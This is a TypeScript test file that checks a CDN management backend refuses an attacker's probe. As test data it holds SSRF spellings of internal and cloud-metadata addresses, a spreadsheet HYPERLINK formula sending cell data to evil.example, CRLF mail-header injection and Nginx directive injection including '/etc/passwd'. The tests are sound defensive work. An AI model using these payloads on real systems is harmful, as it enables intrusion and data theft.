// Issue 24: the requests an attacker's probe used, each now refused (101003) or neutralised.
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startTestBackend, type TestBackend } from './testing.ts';

interface Failure {
  code: number;
  errorData?: { field: string }[];
}

const SITE = 4102;
let t: TestBackend;
let mei: string;
let northwind: string;

beforeAll(async () => {
  t = await startTestBackend();
  mei = await t.tokenOf('mei');
  northwind = await t.tokenOf('northwind');
}, 60_000);
afterAll(() => t.close());
afterEach(() => {
  delete process.env.PARAPET_PUSH_PRIVATE;
});

const snapshot = () => JSON.stringify(t.backend.store.toData().resources);

/** Sends a request that must be refused with 101003 (on the field when given) and must change nothing. */
async function refused(method: string, path: string, token: string, body: unknown, field?: string): Promise<void> {
  const before = snapshot();
  const answer = await t.call<Failure>(method, path, { token, body });
  expect(answer.status, `${method} ${path} ${JSON.stringify(body).slice(0, 120)}`).toBe(400);
  expect(answer.body.code).toBe(101003);
  if (field) expect(answer.body.errorData?.map((v) => v.field)).toContain(field);
  expect(snapshot()).toBe(before);
}

// The probe's spellings of internal addresses (item 6).
const PROBE_HOSTS = ['[::ffff:127.0.0.1]', '[::ffff:169.254.169.254]', '[::127.0.0.1]', '[64:ff9b::a9fe:a9fe]', '[0:0:0:0:0:ffff:7f00:1]', 'LOCALHOST.'];

describe('item 6: one address check for every outbound target', () => {
  it('refuses every spelling of an internal address as a log push URL, in both consoles', async () => {
    const user = { name: 'probe', type: 'manual', logType: 'access', siteIDs: [SITE] };
    const client = { name: 'probe', userID: 302, siteIDs: [SITE], logType: 'access' };
    for (const host of PROBE_HOSTS) {
      await refused('POST', '/user/logPush/events', mei, { ...user, url: `http://${host}/latest/meta-data` }, 'url');
      await refused('POST', '/client/logPush/events', northwind, { ...client, url: `http://${host}:8080/in` }, 'url');
    }
  }, 60_000);

  it('refuses the same spellings as a client SMTP relay (save and test)', async () => {
    const setting = { enable: false, host: 'smtp.northwind-cdn.example', port: 587, security: 'starttls', username: '', from: 'notify@northwind-cdn.example', fromName: 'Northwind Edge' };
    for (const host of [...PROBE_HOSTS, '127.0.0.1', '::1', '0x7f.1', '10.0.0.5', 'relay.localhost']) {
      await refused('PUT', '/client/setting/email', northwind, { ...setting, host }, 'host');
      await refused('POST', '/client/setting/email/test', northwind, { to: 'ops@northwind-cdn.example', setting: { ...setting, host } }, 'setting.host');
    }
    const fine = await t.call('PUT', '/client/setting/email', { token: northwind, body: setting });
    expect(fine.status).toBe(200);
  }, 60_000);

  it('keeps the operator opt-in (PARAPET_PUSH_PRIVATE=1) for on-premises targets', async () => {
    process.env.PARAPET_PUSH_PRIVATE = '1';
    const allowed = await t.call('POST', '/user/logPush/events', {
      token: mei,
      body: { name: 'on-premises-v6', type: 'manual', logType: 'access', siteIDs: [SITE], url: 'http://[::ffff:10.0.0.5]/in' },
    });
    expect(allowed.status).toBe(200);
  });
});

describe('item 7: bounded work per request', () => {
  const day = (t0: number) => ({ startTime: new Date(t0 - 86_400_000).toISOString(), endTime: new Date(t0).toISOString() });

  it('refuses a log search naming the same sites again and again (the probe: 12 sites repeated to 5000 ids)', async () => {
    const sites = [4101, 4102, 4103, 4104, 4105, 4106, 4107, 4108, 4109, 4110, 4111, 4112];
    const repeated = Array.from({ length: 5000 }, (_, i) => sites[i % sites.length]!);
    await refused('POST', '/client/logs/access', northwind, { ...day(Date.now()), siteIDs: repeated, pageSize: 25 }, 'siteIDs');
    await refused('POST', '/client/logs/waf', northwind, { ...day(Date.now()), siteIDs: [4102, 4102], pageSize: 25 }, 'siteIDs');
    await refused('POST', '/user/logs/access', mei, { ...day(Date.now()), siteIDs: [4102, 4102] }, 'siteIDs');
    await refused('POST', '/client/statistics/timeSeries', northwind, { type: 2, ...day(Date.now()), siteIDs: [4102, 4102], minutesStep: 5 }, 'siteIDs');
  });

  it('refuses more than 5000 ids', async () => {
    const many = Array.from({ length: 5001 }, (_, i) => i + 1);
    await refused('POST', '/client/logs/access', northwind, { ...day(Date.now()), siteIDs: many }, 'siteIDs');
  });

  it('answers the public logo while a log search over every site of the client runs', async () => {
    const heavy = t.call<{ total: number }>('POST', '/client/logs/access', { token: northwind, body: { ...day(Date.now() - 3_600_000), pageSize: 25 } });
    let heavyDone = false;
    void heavy.then(() => (heavyDone = true));
    // Let the search start, then ask for the logo: it is answered while the search is still under way.
    await new Promise((resolve) => setTimeout(resolve, 200));
    const logo = await t.call('GET', '/user/logo');
    expect(logo.status).toBe(200);
    expect(heavyDone).toBe(false);
    const answer = await heavy;
    expect(answer.status).toBe(200);
    expect(answer.body.total).toBeGreaterThan(0);
  }, 120_000);
});

describe('item 8: values safe where they land', () => {
  it('writes a site named =HYPERLINK(...) as text in the domain ranking CSV', async () => {
    const site = t.backend.store.sites.find((s) => s.id === SITE)!;
    const name = site.name;
    site.name = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    try {
      const response = await fetch(new URL('/api/v1/user/statistics/list/export', t.origin), {
        method: 'POST',
        headers: { authorization: `Bearer ${mei}`, 'content-type': 'application/json' },
        body: JSON.stringify({ startTime: new Date(Date.now() - 6 * 3_600_000).toISOString(), endTime: new Date().toISOString(), siteIDs: [SITE], top: 50 }),
      });
      expect(response.status).toBe(200);
      const csv = await response.text();
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`);
      expect(csv.split('\r\n').some((line) => line.split(',').some((cell) => /^"?=/.test(cell)))).toBe(false);
    } finally {
      site.name = name;
    }
  });

  it('refuses CR LF and other control characters in the mail sender name', async () => {
    const setting = { enable: false, host: 'smtp.northwind-cdn.example', port: 587, security: 'starttls', username: '', from: 'notify@northwind-cdn.example' };
    for (const fromName of ['Northwind\r\nBcc: everyone@example.com', 'Edge\nX-Spam: no', 'a\u0000b', 'tab\there']) {
      await refused('PUT', '/client/setting/email', northwind, { ...setting, fromName }, 'fromName');
      await refused('POST', '/client/setting/email/test', northwind, { to: 'ops@northwind-cdn.example', setting: { ...setting, fromName } }, 'setting.fromName');
    }
  });

  it('refuses Nginx path fields that would end the directive (system and zone)', async () => {
    const system = await t.call<{ data: Record<string, unknown> }>('GET', '/client/setting/nginx/http', { token: northwind });
    expect(system.status).toBe(200);
    for (const cacheDir of ['/cache; include /etc/passwd', '/cache}', '/a"b', '/a#b', '/a\nb', '/a b']) {
      await refused('PUT', '/client/setting/nginx/http', northwind, { ...system.body.data, cacheDir }, 'cacheDir');
    }
    const fine = await t.call('PUT', '/client/setting/nginx/http', { token: northwind, body: { ...system.body.data, cacheDir: '/var/cache/nginx' } });
    expect(fine.status).toBe(200);
  });
});
